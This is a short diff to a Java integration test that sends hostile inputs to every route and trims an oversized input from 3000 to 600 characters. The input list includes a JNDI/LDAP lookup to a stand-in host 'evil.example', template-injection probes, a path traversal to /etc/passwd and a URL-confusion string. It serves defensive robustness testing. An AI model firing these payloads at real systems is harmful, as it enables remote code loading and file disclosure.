@@ -54,7 +54,8 @@ class EveryRouteIT {
           "${jndi:ldap://evil.example/a}{{7*7}}${7*7}",
           "../../../../../../etc/passwd",
           "https://evil.example/\\@localhost",
-          "a".repeat(3_000));
+          // what no request line has room for is refused before it is read: see StrictnessIT
+          "a".repeat(600));
 
   @RegisterExtension static final TestDatabase database = new TestDatabase();
   @TempDir static Path directory;
